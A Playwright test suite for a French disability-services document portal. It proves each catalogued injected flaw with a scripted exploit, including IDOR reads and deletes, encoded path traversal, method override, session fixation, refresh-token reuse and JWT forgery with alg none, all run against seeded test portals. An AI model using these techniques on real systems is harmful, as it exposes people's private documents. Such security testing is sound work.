import { inflateSync } from 'node:zlib';
import type { Browser } from '@playwright/test';
import { FLAW_IDS, type FlawId } from '../src/flaws/catalog';
import { makeArtifact } from './support/artifacts';
import { replyJson, type PortalClient } from './support/client';
import { cacheKeeps, Findings } from './support/evidence';
import { expect, test, type SeededPortal } from './support/fixtures';
import { PASSWORD, USAGER_KEYS, type UsagerKey } from './support/population';

/**
 * Every catalog flaw, proven both ways with the same exploit: the secure portal gives the
 * attacker nothing, the portal with only that flaw on gives the victim's content away.
 * Unless said otherwise the attacker is Bruno and the victim Alice, two usagers of the MDPH 075.
 */
interface Exploit {
  title: string;
  run(target: SeededPortal, browser: Browser): Promise<string[]>;
}

async function bruno({ population }: SeededPortal): Promise<PortalClient> {
  return population.as('bruno');
}

/** A positive control inside an exploit: the attacker's own document must be readable, or the exploit proves nothing. */
async function assertOwnDownloadWorks({ population }: SeededPortal, who: UsagerKey): Promise<void> {
  const own = population.firstPieceOf(who);
  const reply = await (await population.as(who)).get(`/api/v2/pieces/${own.id}/contenu`);
  if (reply.status !== 200 || !reply.text.includes(own.marker)) {
    throw new Error(`positive control: ${who} cannot download their own pièce ${own.id} (${reply.status})`);
  }
}

/** One GET as the attacker on another usager's pièce, scanned for the victim's marker. */
function pieceRead(title: string, route: (pieceId: number) => string, anonymous = false): Exploit {
  return {
    title,
    async run(target) {
      const { population } = target;
      await assertOwnDownloadWorks(target, 'bruno');
      const victim = population.firstPieceOf('alice');
      const attacker = anonymous ? population.anonymous() : await bruno(target);
      const findings = new Findings();
      const path = route(victim.id);
      findings.leak(`${attacker.name} GET ${path}`, await attacker.get(path), victim.marker);
      return findings.list;
    },
  };
}

const OLD_EXPLOITS = {
  'download-idor': pieceRead("another usager's pièce content by id", (id) => `/api/v2/pieces/${id}/contenu`),
  'view-idor': pieceRead("another usager's pièce detail page by id", (id) => `/pieces/${id}`),
  'anonymous-download': pieceRead('a pièce content without any session', (id) => `/api/v2/pieces/${id}/contenu`, true),
  'preview-idor': pieceRead("another usager's pièce preview by id", (id) => `/api/v2/pieces/${id}/apercu`),
  'legacy-endpoint': pieceRead("another usager's pièce through the legacy v1 download", (id) => `/api/v1/pieces/${id}/download`),
  'error-page-leak': pieceRead("the refusal page to name another usager's pièce", (id) => `/pieces/${id}`),

  'dossier-idor': {
    title: "another usager's dossier and its pièce list",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const dossierId = population.dossierOf('alice');
      const findings = new Findings();
      for (const path of [`/api/v2/dossiers/${dossierId}/pieces`, `/api/v2/dossiers/${dossierId}`]) {
        const reply = await attacker.get(path);
        for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path}`, reply, piece.marker);
      }
      findings.leak(`bruno GET /dossiers/${dossierId}`, await attacker.get(`/dossiers/${dossierId}`), population.person('alice').dossierNumero ?? '?');
      return findings.list;
    },
  },

  'list-filter': {
    title: "the pièce list filtered on another usager's dossier or id",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const alice = population.person('alice');
      const findings = new Findings();
      for (const query of [`dossierId=${population.dossierOf('alice')}`, `usagerId=${alice.id}`]) {
        const reply = await attacker.get(`/api/v2/pieces?${query}`);
        for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET /api/v2/pieces?${query}`, reply, piece.marker);
      }
      return findings.list;
    },
  },

  'search-leak': {
    title: "a search to return another usager's titles",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const victim = population.firstPieceOf('alice');
      const findings = new Findings();
      for (const q of ['certificat', victim.marker]) {
        const path = `/api/v2/recherche?q=${encodeURIComponent(q)}`;
        findings.leak(`bruno GET ${path}`, await attacker.get(path), victim.marker);
      }
      return findings.list;
    },
  },

  'export-leak': {
    title: "the export of my dossier to hold another usager's files",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const path = `/api/v2/dossiers/${population.dossierOf('bruno')}/export`;
      const reply = await attacker.get(path);
      // Positive control: the export of my own dossier holds my own files.
      const own = population.firstPieceOf('bruno');
      const findings = new Findings();
      findings.leak('control', reply, own.marker);
      if (findings.list.length === 0) throw new Error(`positive control: bruno's export (${reply.status}) lacks his own ${own.marker}`);
      findings.list.length = 0;
      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} (ZIP entries)`, reply, piece.marker);
      return findings.list;
    },
  },

  'path-traversal': {
    title: "an encoded ../ in a file name of my dossier to reach another dossier's file",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const victim = population.firstPieceOf('alice');
      const own = population.firstPieceOf('bruno');
      const ownPath = `/dossiers/${own.dossierId}/fichiers/${encodeURIComponent(own.storedName)}`;
      const ownReply = await attacker.get(ownPath);
      if (!ownReply.text.includes(own.marker)) throw new Error(`positive control: bruno GET ${ownPath} → ${ownReply.status} lacks his own file`);
      const path = `/dossiers/${own.dossierId}/fichiers/..%2F${victim.dossierId}%2F${encodeURIComponent(victim.storedName)}`;
      const findings = new Findings();
      findings.leak(`bruno GET ${path}`, await attacker.get(path), victim.marker);
      return findings.list;
    },
  },

  'excessive-data': {
    title: "my dossier's answer to carry other usagers' identities",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const path = `/api/v2/dossiers/${population.dossierOf('bruno')}`;
      const reply = await attacker.get(path);
      if (reply.status !== 200) throw new Error(`positive control: bruno GET ${path} → ${reply.status}`);
      const findings = new Findings();
      for (const other of ['alice', 'camille'] as const) {
        const person = population.person(other);
        findings.leak(`bruno GET ${path}`, reply, person.nom);
        findings.leak(`bruno GET ${path}`, reply, person.email);
      }
      return findings.list;
    },
  },

  'method-override': {
    title: "HEAD and an overridden POST to fetch another usager's pièce",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const victim = population.firstPieceOf('alice');
      const path = `/api/v2/pieces/${victim.id}/contenu`;
      const findings = new Findings();
      const head = await attacker.request('HEAD', path);
      findings.leak(`bruno HEAD ${path} (Content-Disposition)`, head.headers.get('content-disposition') ?? '', victim.marker);
      const overridden = await attacker.request('POST', path, { headers: { 'x-http-method-override': 'GET' }, csrf: true });
      findings.leak(`bruno POST ${path} with X-HTTP-Method-Override: GET`, overridden, victim.marker);
      const methodParam = await attacker.request('POST', `${path}?_method=GET`, { csrf: true });
      findings.leak(`bruno POST ${path}?_method=GET`, methodParam, victim.marker);
      return findings.list;
    },
  },

  'signed-link-unbound': {
    title: "another usager's share link to open anonymously, after revocation and after the owner's logout",
    async run(target) {
      const { population } = target;
      const victim = population.firstPieceOf('alice');
      const owner = await population.freshLogin('alice');
      const share = async (): Promise<string> => {
        const reply = await owner.request('POST', `/api/v2/pieces/${victim.id}/partage`, { csrf: true });
        if (reply.status !== 201) throw new Error(`alice could not share her pièce: ${reply.status} ${reply.text.slice(0, 200)}`);
        return replyJson<{ url: string }>(reply).url;
      };
      const findings = new Findings();
      const stranger = population.anonymous('a stranger without session');
      const first = await share();
      // Positive control: the link works for its owner, a signed-in reader of the pièce.
      const ownerView = await owner.get(first);
      if (!ownerView.text.includes(victim.marker)) throw new Error(`positive control: alice GET ${first} → ${ownerView.status} lacks her pièce`);
      findings.leak(`stranger GET ${first}`, await stranger.get(first), victim.marker);
      findings.leak(`bruno GET ${first}`, await (await bruno(target)).get(first), victim.marker);
      const token = first.split('/').pop() ?? '';
      const revoked = await owner.request('DELETE', `/api/v2/partages/${token}`, { csrf: true });
      if (revoked.status >= 300) throw new Error(`alice could not revoke her link: ${revoked.status}`);
      findings.leak(`alice GET ${first} after revoking it`, await owner.get(first), victim.marker);
      const second = await share();
      const logout = await owner.logout();
      if (logout.status >= 300) throw new Error(`alice could not log out: ${logout.status}`);
      // Even the owner, signed in again, must find a link that died with the session that made it.
      const again = await population.freshLogin('alice');
      findings.leak(`alice (new session) GET ${second} after logging out the session that made it`, await again.get(second), victim.marker);
      findings.leak(`stranger GET ${second} after alice logged out`, await stranger.get(second), victim.marker);
      return findings.list;
    },
  },

  'upload-into-other': {
    title: "an upload into another usager's dossier",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const planted = await makeArtifact('text', population.nextMarker('bruno'));
      const aliceDossier = population.dossierOf('alice');
      await attacker.upload(aliceDossier, planted);
      const findings = new Findings();
      const aliceView = await (await population.as('alice')).get(`/api/v2/dossiers/${aliceDossier}/pieces`);
      findings.leak(`after bruno POST /api/v2/dossiers/${aliceDossier}/pieces, alice's list`, aliceView, planted.marker);
      return findings.list;
    },
  },

  'mass-assignment': {
    title: "an upload into my dossier with a body dossierId naming another dossier",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const planted = await makeArtifact('text', population.nextMarker('bruno'));
      const aliceDossier = population.dossierOf('alice');
      const reply = await attacker.upload(population.dossierOf('bruno'), planted, { dossierId: String(aliceDossier) });
      if (reply.status !== 201) throw new Error(`bruno's upload into his own dossier answered ${reply.status}: ${reply.text.slice(0, 200)}`);
      const findings = new Findings();
      const aliceView = await (await population.as('alice')).get(`/api/v2/dossiers/${aliceDossier}/pieces`);
      findings.leak(`after bruno's upload with dossierId=${aliceDossier}, alice's list`, aliceView, planted.marker);
      return findings.list;
    },
  },

  'storage-key-update': {
    title: "an update of my own pièce whose body names another usager's stored file",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const own = await population.addPiece('bruno', 'text');
      const victim = await population.addPiece('alice', 'pdf');
      const reply = await attacker.request('PATCH', `/api/v2/pieces/${own.id}`, { json: { titre: 'Ma pièce', storedName: victim.storedName }, csrf: true });
      if (reply.status !== 200) throw new Error(`bruno's update of his own pièce answered ${reply.status}: ${reply.text.slice(0, 200)}`);
      const findings = new Findings();
      findings.leak(`after bruno PATCH /api/v2/pieces/${own.id} with alice's storedName, his own download`, await attacker.get(`/api/v2/pieces/${own.id}/contenu`), victim.marker);
      return findings.list;
    },
  },

  'delete-idor': {
    title: "the deletion of another usager's pièce",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const victim = await population.addPiece('alice', 'text');
      await attacker.request('DELETE', `/api/v2/pieces/${victim.id}`, { csrf: true });
      const alice = await population.as('alice');
      const findings = new Findings();
      findings.lost(`after bruno DELETE /api/v2/pieces/${victim.id}, alice's list`, await alice.get(`/api/v2/dossiers/${victim.dossierId}/pieces`), victim.marker);
      findings.lost(`after bruno DELETE /api/v2/pieces/${victim.id}, alice's download`, await alice.get(`/api/v2/pieces/${victim.id}/contenu`), victim.marker);
      return findings.list;
    },
  },

  'overwrite-idor': {
    title: "the rename and content replacement of another usager's pièce",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const victim = await population.addPiece('alice', 'text');
      const forged = await makeArtifact('text', population.nextMarker('bruno'));
      await attacker.request('PATCH', `/api/v2/pieces/${victim.id}`, { json: { titre: `Renommé ${forged.marker}` }, csrf: true });
      const form = new FormData();
      form.append('fichier', new Blob([Buffer.from(forged.bytes)], { type: forged.mime }), forged.fileName);
      await attacker.request('PUT', `/api/v2/pieces/${victim.id}/contenu`, { multipart: form, csrf: true });
      const alice = await population.as('alice');
      const metadata = await alice.get(`/api/v2/pieces/${victim.id}`);
      const findings = new Findings();
      findings.lost(`after bruno PATCH /api/v2/pieces/${victim.id}, alice's titre`, metadata.status === 200 ? replyJson<{ titre: string }>(metadata).titre : '', victim.marker);
      findings.lost(`after bruno PUT /api/v2/pieces/${victim.id}/contenu, alice's download`, await alice.get(`/api/v2/pieces/${victim.id}/contenu`), victim.marker);
      return findings.list;
    },
  },

  'agent-cross-tenant': {
    title: "an agent of the 075 to open a dossier of the 013",
    async run(target) {
      const { population } = target;
      const agent = await population.as('agent075');
      const own = await agent.get(`/api/v2/agent/dossiers/${population.dossierOf('alice')}`);
      if (!own.text.includes(population.firstPieceOf('alice').marker)) throw new Error(`positive control: agent075 cannot open alice's 075 dossier (${own.status})`);
      const findings = new Findings();
      const path = `/api/v2/agent/dossiers/${population.dossierOf('chloe')}`;
      const reply = await agent.get(path);
      for (const piece of population.piecesOf('chloe')) findings.leak(`agent075 GET ${path}`, reply, piece.marker);
      findings.leak(`agent075 GET ${path}`, reply, population.person('chloe').nom);
      return findings.list;
    },
  },

  'usager-to-agent': {
    title: "a usager to use the agent API",
    async run(target) {
      const { population } = target;
      const usager = await population.as('alice');
      const findings = new Findings();
      const list = await usager.get('/api/v2/agent/dossiers');
      for (const other of ['bruno', 'camille'] as const) {
        findings.leak('alice GET /api/v2/agent/dossiers', list, population.person(other).dossierNumero ?? '?');
        findings.leak('alice GET /api/v2/agent/dossiers', list, population.person(other).nom);
      }
      const path = `/api/v2/agent/dossiers/${population.dossierOf('bruno')}`;
      findings.leak(`alice GET ${path}`, await usager.get(path), population.firstPieceOf('bruno').marker);
      return findings.list;
    },
  },

  'representative-overreach': {
    title: "a representative to open a dossier of someone else of the same MDPH",
    async run(target) {
      const { population } = target;
      const representative = await population.as('rachel');
      const own = await representative.get(`/api/v2/dossiers/${population.dossierOf('alice')}/pieces`);
      if (!own.text.includes(population.firstPieceOf('alice').marker)) throw new Error(`positive control: rachel cannot list alice's pièces (${own.status})`);
      const findings = new Findings();
      const dossierId = population.dossierOf('bruno');
      for (const path of [`/api/v2/dossiers/${dossierId}`, `/api/v2/dossiers/${dossierId}/pieces`]) {
        const reply = await representative.get(path);
        for (const piece of population.piecesOf('bruno')) findings.leak(`rachel GET ${path}`, reply, piece.marker);
      }
      return findings.list;
    },
  },

  'logout-noop': {
    title: 'a session cookie replayed after logout',
    async run(target) {
      const { population } = target;
      const alice = await population.freshLogin('alice');
      const captured = alice.cloneCookies('alice\'s cookie captured before logout');
      const logout = await alice.logout();
      if (logout.status >= 300) throw new Error(`alice could not log out: ${logout.status}`);
      const findings = new Findings();
      findings.leak('replayed cookie GET /api/v2/moi', await captured.get('/api/v2/moi'), population.person('alice').email);
      const pieces = await captured.get('/api/v2/pieces');
      for (const piece of population.piecesOf('alice')) findings.leak('replayed cookie GET /api/v2/pieces', pieces, piece.marker);
      return findings.list;
    },
  },

  'session-fixation': {
    title: 'a session id planted before login to be signed in after it',
    async run(target) {
      const { population } = target;
      const attacker = population.anonymous('attacker who planted the sid');
      await attacker.get('/connexion');
      if (!attacker.sid) throw new Error('GET /connexion set no sid: nothing to plant');
      const victim = attacker.cloneCookies('alice, on a browser with the planted sid');
      await victim.login(population.person('alice').email, PASSWORD);
      const findings = new Findings();
      findings.leak('attacker (planted sid) GET /api/v2/moi', await attacker.get('/api/v2/moi'), population.person('alice').email);
      const pieces = await attacker.get('/api/v2/pieces');
      for (const piece of population.piecesOf('alice')) findings.leak('attacker (planted sid) GET /api/v2/pieces', pieces, piece.marker);
      return findings.list;
    },
  },

  'cookie-flags': {
    title: "a page script to read the session cookie",
    async run(target, browser) {
      const { population, portal } = target;
      const context = await browser.newContext({ baseURL: portal.baseUrl });
      try {
        const login = await context.request.post('/api/v2/session', { data: { email: population.person('alice').email, password: PASSWORD } });
        if (login.status() !== 200) throw new Error(`alice's login in Chromium answered ${login.status()}`);
        const sid = (await context.cookies()).find((cookie) => cookie.name === 'sid');
        if (!sid) throw new Error('Chromium holds no sid cookie after login');
        const page = await context.newPage();
        await page.goto('/espace');
        const findings = new Findings();
        findings.leak('document.cookie on /espace', await page.evaluate(() => document.cookie), sid.value);
        return findings.list;
      } finally {
        await context.close();
      }
    },
  },

  'document-cacheable': {
    title: 'a cache on a shared computer to keep a document and the dossier page',
    async run(target) {
      const { population } = target;
      const alice = await population.as('alice');
      const piece = population.firstPieceOf('alice');
      const findings = new Findings();
      for (const path of [`/api/v2/pieces/${piece.id}/contenu`, `/pieces/${piece.id}`, `/api/v2/dossiers/${piece.dossierId}/pieces`]) {
        findings.leak(`what a cache keeps of alice GET ${path}`, cacheKeeps(await alice.get(path)), piece.marker);
      }
      const dossierPage = await alice.get(`/dossiers/${piece.dossierId}`);
      findings.leak(`what a cache keeps of alice GET /dossiers/${piece.dossierId}`, cacheKeeps(dossierPage), population.person('alice').dossierNumero ?? '?');
      return findings.list;
    },
  },

  'shared-cache': {
    title: "the next user to receive the previous user's /api/v2/moi and /espace",
    async run(target) {
      const { population } = target;
      const first = await population.freshLogin('alice');
      const second = await population.freshLogin('bruno');
      const alice = population.person('alice');
      const findings = new Findings();
      for (const path of ['/api/v2/moi', '/espace']) {
        await first.get(path);
        const reply = await second.get(path);
        findings.leak(`bruno GET ${path} right after alice`, reply, alice.email);
        findings.leak(`bruno GET ${path} right after alice`, reply, alice.nom);
      }
      return findings.list;
    },
  },

  'request-state-race': {
    title: 'many concurrent pièce lists to mix users',
    async run(target) {
      const { population } = target;
      const sessions = await Promise.all(USAGER_KEYS.map(async (key) => ({ key, client: await population.as(key) })));
      // Positive control, one at a time: everyone's list holds their own pièces.
      for (const { key, client } of sessions) {
        const reply = await client.get('/api/v2/pieces');
        if (!population.piecesOf(key).every((piece) => reply.text.includes(piece.marker))) {
          throw new Error(`positive control: ${key}'s /api/v2/pieces (${reply.status}) lacks their own pièces`);
        }
      }
      const findings = new Findings();
      for (let round = 0; round < 8 && findings.list.length === 0; round += 1) {
        const replies = await Promise.all(sessions.flatMap(({ key, client }) => [0, 1, 2].map(async () => ({ key, reply: await client.get('/api/v2/pieces') }))));
        for (const { key, reply } of replies) {
          for (const foreign of population.pieces.filter((piece) => piece.owner !== key)) {
            findings.leak(`${key} GET /api/v2/pieces (round ${round + 1})`, reply, foreign.marker);
          }
        }
      }
      return findings.list;
    },
  },
} satisfies Partial<Record<FlawId, Exploit>>;

/**
 * Bruno's own summary request with Alice's id put in one place only (query or header): the
 * positive control is the same request with his own id in both.
 */
function recapSwap(title: string, where: 'query' | 'header'): Exploit {
  return {
    title,
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const own = population.person('bruno').id;
      const victim = population.person('alice').id;
      const control = await attacker.get(`/api/v2/recapitulatif?usagerId=${own}`, { headers: { 'x-usager-id': String(own) } });
      if (!control.text.includes(population.firstPieceOf('bruno').marker)) throw new Error(`positive control: bruno's own summary (${control.status}) lacks his pièce`);
      const path = `/api/v2/recapitulatif?usagerId=${where === 'query' ? victim : own}`;
      const header = String(where === 'header' ? victim : own);
      const reply = await attacker.get(path, { headers: { 'x-usager-id': header } });
      const findings = new Findings();
      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} with X-Usager-Id: ${header}`, reply, piece.marker);
      return findings.list;
    },
  };
}

/** An administrator's action on an account (with the provisioning token), after which the session it held must read nothing. */
interface AdminAction {
  spare: string;
  method: string;
  path(accountId: number): string;
  /** "the account was disabled": what happened, for the findings and errors. */
  done: string;
}

/** A throw-away usager signs in and reads its own pièce; an administrator acts on the account; the same session reads again. */
function sessionAfterAdminAction(title: string, action: AdminAction): Exploit {
  return {
    title,
    async run({ population }) {
      const spare = await population.spareUsager(action.spare);
      const path = `/api/v2/pieces/${spare.piece.id}/contenu`;
      const sam = population.anonymous('sam');
      await sam.login(spare.email, PASSWORD);
      if (!(await sam.get(path)).text.includes(spare.piece.marker)) throw new Error('positive control: sam cannot download their own pièce');
      const acted = await population.anonymous('administrator').request(action.method, action.path(spare.id), { headers: { 'x-provisioning-token': population.provisioningToken } });
      if (acted.status !== 204) throw new Error(`${action.method} ${action.path(spare.id)} answered ${acted.status}: not "${action.done}"`);
      const findings = new Findings();
      findings.leak(`session held before ${action.done} GET ${path}`, await sam.get(path), spare.piece.marker);
      return findings.list;
    },
  };
}

const NEW_EXPLOITS = {
  'password-change-keeps-sessions': {
    title: 'a session opened before a password change to read the account\'s pièce after it',
    async run({ population }) {
      const spare = await population.spareUsager('sparepwd');
      const path = `/api/v2/pieces/${spare.piece.id}/contenu`;
      const laptop = population.anonymous('sam on a forgotten laptop');
      await laptop.login(spare.email, PASSWORD);
      if (!(await laptop.get(path)).text.includes(spare.piece.marker)) throw new Error('positive control: sam cannot download their own pièce');
      const phone = population.anonymous('sam on the phone');
      await phone.login(spare.email, PASSWORD);
      const change = await phone.request('POST', '/api/v2/moi/mot-de-passe', { json: { password: PASSWORD, newPassword: 'Nouveau-secret-2026!' }, csrf: true });
      if (change.status !== 200) throw new Error(`sam could not change the password: ${change.status}`);
      const findings = new Findings();
      findings.leak(`laptop session after the password change GET ${path}`, await laptop.get(path), spare.piece.marker);
      return findings.list;
    },
  },

  'refresh-token-reusable': {
    title: 'a refresh token to renew a session a second time',
    async run({ population }) {
      const spare = await population.spareUsager('sparerefresh');
      const path = `/api/v2/pieces/${spare.piece.id}/contenu`;
      const login = await population.anonymous('sam').request('POST', '/api/v2/session', { json: { email: spare.email, password: PASSWORD } });
      const { refreshToken } = replyJson<{ refreshToken: string }>(login);
      const owner = population.anonymous('sam, renewing');
      const renewed = await owner.request('POST', '/api/v2/session/renouvellement', { json: { refreshToken } });
      if (renewed.status !== 200 || !(await owner.get(path)).text.includes(spare.piece.marker)) throw new Error(`positive control: the first refresh (${renewed.status}) gives no session that reads sam's pièce`);
      const thief = population.anonymous('holder of the spent refresh token');
      await thief.request('POST', '/api/v2/session/renouvellement', { json: { refreshToken } });
      const findings = new Findings();
      findings.leak(`spent refresh token, then GET ${path}`, await thief.get(path), spare.piece.marker);
      return findings.list;
    },
  },

  'disable-keeps-sessions': sessionAfterAdminAction('a session of a disabled account to read its pièce', {
    spare: 'spareoff',
    method: 'POST',
    path: (id) => `/api/provisioning/users/${id}/desactivation`,
    done: 'the account was disabled',
  }),
  'revoke-keeps-sessions': sessionAfterAdminAction("a session opened before its role was revoked to read the account's pièce", {
    spare: 'sparerole',
    method: 'DELETE',
    path: (id) => `/api/provisioning/users/${id}/role`,
    done: 'the role was revoked',
  }),

  'recap-query-scope': recapSwap("the summary of another usager named in the query string", 'query'),
  'delegation-header': recapSwap("the summary of another usager named in the delegation header", 'header'),

  'espace-cookie-trusted': {
    title: "the summary of another usager named in the espace cookie",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const espace = await attacker.get('/espace');
      if (attacker.cookies.get('espace') !== String(population.person('bruno').id)) throw new Error(`positive control: bruno GET /espace (${espace.status}) set no espace cookie of his`);
      attacker.cookies.set('espace', String(population.person('alice').id));
      const reply = await attacker.get('/api/v2/recapitulatif');
      const findings = new Findings();
      for (const piece of population.piecesOf('alice')) findings.leak('bruno GET /api/v2/recapitulatif with Cookie: espace={alice}', reply, piece.marker);
      return findings.list;
    },
  },

  'synthese-body-idor': {
    title: "the summary of another usager's dossier named in a POST body",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const summary = (dossierId: number) => attacker.request('POST', '/api/v2/dossiers/synthese', { json: { dossierId } });
      const control = await summary(population.firstPieceOf('bruno').dossierId);
      if (!control.text.includes(population.firstPieceOf('bruno').marker)) throw new Error(`positive control: bruno's own dossier summary (${control.status}) lacks his pièce`);
      const victim = population.firstPieceOf('alice').dossierId;
      const reply = await summary(victim);
      const findings = new Findings();
      for (const piece of population.piecesOf('alice')) findings.leak(`bruno POST /api/v2/dossiers/synthese {"dossierId": ${victim}}`, reply, piece.marker);
      return findings.list;
    },
  },

  'file-by-name': {
    title: "my dossier in the URL with another dossier's stored file name",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const own = population.firstPieceOf('bruno');
      const ownPath = `/dossiers/${own.dossierId}/fichiers/${encodeURIComponent(own.storedName)}`;
      const ownReply = await attacker.get(ownPath);
      if (!ownReply.text.includes(own.marker)) throw new Error(`positive control: bruno GET ${ownPath} → ${ownReply.status} lacks his own file`);
      const victim = population.firstPieceOf('alice');
      const path = `/dossiers/${own.dossierId}/fichiers/${encodeURIComponent(victim.storedName)}`;
      const findings = new Findings();
      findings.leak(`bruno GET ${path}`, await attacker.get(path), victim.marker);
      return findings.list;
    },
  },

  'page-unscoped': {
    title: 'the second page of my pièce list to hold other usagers\' pièces',
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const first = await attacker.get('/api/v2/pieces?page=1&limit=1');
      if (!population.piecesOf('bruno').some((piece) => first.text.includes(piece.marker))) throw new Error(`positive control: bruno's first page (${first.status}) lacks his pièces`);
      const findings = new Findings();
      for (const page of [2, 3, 4, 5, 6]) {
        const path = `/api/v2/pieces?page=${page}&limit=1`;
        const reply = await attacker.get(path);
        for (const piece of population.pieces.filter((item) => item.owner !== 'bruno')) findings.leak(`bruno GET ${path}`, reply, piece.marker);
      }
      return findings.list;
    },
  },

  'export-v1-sibling': {
    title: "another usager's dossier through the v1 sibling of the ZIP export",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const path = `/api/v1/dossiers/${population.dossierOf('alice')}/export`;
      const reply = await attacker.get(path);
      const findings = new Findings();
      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} (ZIP entries)`, reply, piece.marker);
      return findings.list;
    },
  },

  'numeric-id-coercion': pieceRead("another usager's pièce content by its id with a leading zero", (id) => `/api/v2/pieces/0${id}/contenu`),

  'export-registered-twice': {
    title: "another usager's dossier through the export's trailing-slash registration",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const path = `/api/v2/dossiers/${population.dossierOf('alice')}/export/`;
      const reply = await attacker.get(path);
      const findings = new Findings();
      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} (ZIP entries)`, reply, piece.marker);
      return findings.list;
    },
  },

  'duplicate-identities': {
    title: "my dossier list to carry other usagers' names and birth dates",
    async run(target) {
      const { population } = target;
      const attacker = await bruno(target);
      const reply = await attacker.get('/api/v2/dossiers');
      if (reply.status !== 200) throw new Error(`positive control: bruno GET /api/v2/dossiers → ${reply.status}`);
      const findings = new Findings();
      for (const other of ['alice', 'camille'] as const) findings.leak('bruno GET /api/v2/dossiers', reply, `"nom":"${population.person(other).nom}"`);
      return findings.list;
    },
  },

  'access-token-query': {
    title: 'a session id in ?access_token= to open the espace without any cookie',
    async run(target) {
      const { population } = target;
      const alice = await population.freshLogin('alice');
      if (!alice.sid) throw new Error('alice has no sid after login');
      const stranger = population.anonymous('whoever read the URL in a log');
      const findings = new Findings();
      const reply = await stranger.get(`/api/v2/moi?access_token=${encodeURIComponent(alice.sid)}`);
      findings.leak('stranger GET /api/v2/moi?access_token=…', reply, population.person('alice').email);
      const pieces = await stranger.get(`/api/v2/pieces?access_token=${encodeURIComponent(alice.sid)}`);
      for (const piece of population.piecesOf('alice')) findings.leak('stranger GET /api/v2/pieces?access_token=…', pieces, piece.marker);
      return findings.list;
    },
  },

  'thumbnail-cache': {
    title: "another usager's preview once its owner has looked at it",
    async run(target) {
      const { population } = target;
      const findings = new Findings();
      for (const kind of ['pdf', 'png'] as const) {
        const victim = population.firstPieceOf('alice', kind);
        const path = `/api/v2/pieces/${victim.id}/apercu`;
        const own = await (await population.as('alice')).get(path);
        if (own.status !== 200) throw new Error(`positive control: alice GET ${path} → ${own.status}`);
        const reply = await (await bruno(target)).get(path);
        // A re-rendered PNG keeps its text compressed: what bruno got is read as the oracle would.
        findings.leak(`bruno GET ${path} after alice previewed it`, kind === 'png' ? pngTextOf(reply.bytes) : reply, victim.marker);
      }
      return findings.list;
    },
  },

  'jwt-unverified': {
    title: "an API token re-addressed to another usager, unsigned or under the original signature",
    async run(target) {
      const { population } = target;
      const owner = await bruno(target);
      const issued = await owner.request('POST', '/api/v2/jetons', { csrf: true });
      if (issued.status !== 201) throw new Error(`bruno could not get an API token: ${issued.status}`);
      const token = replyJson<{ token: string }>(issued).token;
      const stranger = population.anonymous('whoever forged the token');
      const own = await stranger.get('/api/v2/moi', { headers: { authorization: `Bearer ${token}` } });
      if (!own.text.includes(population.person('bruno').email)) throw new Error(`positive control: bruno's API token does not open /api/v2/moi (${own.status})`);
      const [head = '', body = '', signature = ''] = token.split('.');
      const payload = { ...(JSON.parse(Buffer.from(body, 'base64url').toString()) as object), sub: String(population.person('alice').id) };
      const forged = Buffer.from(JSON.stringify(payload)).toString('base64url');
      const none = Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url');
      const findings = new Findings();
      for (const [what, value] of [['original signature', `${head}.${forged}.${signature}`], ['alg none', `${none}.${forged}.`]] as const) {
        findings.leak(`stranger GET /api/v2/moi with a token for alice (${what})`, await stranger.get('/api/v2/moi', { headers: { authorization: `Bearer ${value}` } }), population.person('alice').email);
      }
      return findings.list;
    },
  },
} satisfies Partial<Record<FlawId, Exploit>>;

/** The text chunks of a PNG (tEXt as is, zTXt inflated); empty for anything else. */
function pngTextOf(bytes: Buffer): string {
  const texts: string[] = [];
  for (let offset = 8; offset + 12 <= bytes.length && bytes.subarray(0, 4).toString('latin1') === '\x89PNG'; ) {
    const length = bytes.readUInt32BE(offset);
    const type = bytes.toString('latin1', offset + 4, offset + 8);
    const data = bytes.subarray(offset + 8, offset + 8 + length);
    if (type === 'tEXt') texts.push(data.toString('latin1'));
    if (type === 'zTXt') texts.push(inflateSync(data.subarray(data.indexOf(0) + 2)).toString('latin1'));
    offset += 12 + length;
  }
  return texts.join('\n');
}

const EXPLOITS: Record<FlawId, Exploit> = { ...OLD_EXPLOITS, ...NEW_EXPLOITS };

test('the flaw exploits cover every flaw of the catalog', () => {
  expect(Object.keys(EXPLOITS).sort()).toEqual([...FLAW_IDS].sort());
});

for (const flaw of FLAW_IDS) {
  const exploit = EXPLOITS[flaw];

  test.describe(flaw, () => {
    test(`secure portal denies ${exploit.title}`, async ({ portals, browser }) => {
      const findings = await exploit.run(await portals.seeded([]), browser);
      expect(findings).toEqual([]);
    });

    test(`${flaw} lets ${exploit.title} through`, async ({ portals, browser }) => {
      const findings = await exploit.run(await portals.seeded([flaw]), browser);
      // The findings are the evidence a reader of the report checks; they are listed there.
      for (const finding of findings) test.info().annotations.push({ type: 'finding', description: finding });
      expect(findings.length, 'the exploit must reach the victim on the flawed portal').toBeGreaterThan(0);
    });
  });
}
